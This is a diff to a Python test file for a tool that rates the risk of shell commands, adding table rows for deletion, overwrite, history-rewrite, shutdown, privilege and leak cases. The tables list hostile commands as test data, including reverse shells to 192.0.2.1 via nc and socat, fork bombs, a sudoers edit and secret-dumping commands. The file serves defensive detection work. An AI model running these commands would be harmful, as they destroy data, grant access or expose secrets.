@@ -5,6 +5,9 @@ from __future__ import annotations
 import pytest
 
 from app.commands.risks import risks
+from app.commands.rules.registry import RULES, rules_for
+from app.commands.rules.table import Rule
+from app.commands.syntax import parse
 from tests.app.commands.cases import Expected, cases, kinds
 
 DELETIONS = r"""
@@ -178,6 +181,21 @@ mkfs.ext4 <device> => deletes danger
 mkfs.ext4 "$DEVICE" => deletes danger
 gio trash a.txt => deletes notice
 fdupes -rdN . => deletes warning
+trash-empty => deletes warning
+gio remove a.txt => deletes warning
+7z d a.7z old.txt => deletes warning
+gh release delete v1 => deletes warning
+docker-compose down -v => deletes warning, stops notice
+virsh undefine machine => deletes warning
+btrfs subvolume delete /mnt/snapshot => deletes warning
+diskutil apfs deleteVolume disk2s1 => deletes danger
+tmutil delete /Volumes/backup/2020 => deletes warning
+apt clean => deletes notice
+dpkg -r htop => deletes warning
+rpm -e htop => deletes warning
+brew cleanup => deletes notice
+flatpak uninstall org.example.App => deletes warning
+mysqladmin -u root drop app => deletes warning
 """
 
 OVERWRITES = r"""
@@ -256,6 +274,10 @@ git switch --discard-changes main => overwrites warning
 iptables-restore rules.v4 => overwrites warning
 for f in *.jpeg; do mv "$f" "${f%.jpeg}.jpg"; done => overwrites notice
 while read -r a b; do cp "$a" "$b"; done < list.txt => overwrites notice
+7z x -y a.7z => overwrites notice
+pg_restore --clean -d app app.dump => overwrites warning
+defaults delete com.apple.dock => overwrites warning
+grub-install /dev/sda => overwrites danger
 """
 
 HISTORY = r"""
@@ -294,6 +316,11 @@ git -c user.name=x commit --amend => rewrites notice
 history -c => rewrites notice
 bfg --delete-files secrets.txt => rewrites warning
 git add -A && git commit --amend --no-edit && git push -f => rewrites notice, rewrites warning
+git prune => rewrites notice
+git checkout -B main => rewrites warning
+git switch -C main => rewrites warning
+hg strip tip => rewrites warning
+history clear => rewrites notice
 """
 
 SHUTDOWNS = r"""
@@ -344,6 +371,17 @@ nmcli networking off => stops warning
 :(){ :|:& };: => stops danger
 bomb() { bomb | bomb & }; bomb => stops danger
 while true; do shutdown now; done => stops warning
+docker-compose stop => stops notice
+loginctl terminate-user bob => stops warning
+virsh destroy machine => stops warning
+vagrant halt => stops notice
+pm2 stop all => stops notice
+supervisorctl stop web => stops notice
+nginx -s stop => stops notice
+ifdown eth0 => stops warning
+nmcli connection down home => stops notice
+swapoff -a => stops warning
+pmset sleepnow => stops notice
 """
 
 RIGHTS = r"""
@@ -410,6 +448,9 @@ docker run -v /:/host alpine => rights warning
 docker run -v /var/run/docker.sock:/var/run/docker.sock x => rights warning
 echo 'bob ALL=(ALL) ALL' >> /etc/sudoers => rights warning, overwrites notice
 cat key.pub >> ~/.ssh/authorized_keys => rights warning
+echo bob:x | chpasswd => rights warning
+ufw deny 23 => rights notice
+aa-teardown => rights warning
 """
 
 ROOT = r"""
@@ -500,6 +541,8 @@ nc -e /bin/sh 192.0.2.1 4444 => leaks danger
 socat tcp:192.0.2.1:4444 exec:/bin/sh => leaks danger
 gpg --export-secret-keys me => leaks warning
 ngrok http 8080 => leaks notice
+security find-generic-password -s wifi -w => leaks notice
+kubectl get secret app -o yaml => leaks notice
 """
 
 NESTED = r"""
@@ -590,3 +633,17 @@ TABLES = {
 )
 def test_a_command_does_what_the_table_says(command: str, expected: Expected) -> None:
     assert kinds(risks(command)) == expected
+
+
+def test_the_tables_try_every_rule() -> None:
+    """A rule that no command of the tables fits may be broken, or be for no command at all."""
+    commands = [one for table in TABLES.values() for command, _ in cases(table) for one in parse(command).commands]
+    tried = {rule for one in commands for rule in rules_for(one.program) if any(True for _ in rule.test(one))}
+    assert [rule for rule in RULES if rule not in tried] == []
+
+
+@pytest.mark.parametrize("rule", [rule for rule in RULES if rule.programs], ids=lambda rule: rule.programs[0])
+def test_a_program_without_words_never_breaks_a_rule(rule: Rule) -> None:
+    for program in rule.programs:
+        for words in ("", " -", " --", " -x", " a", " --force --delete", " '' ''"):
+            risks(program + words)
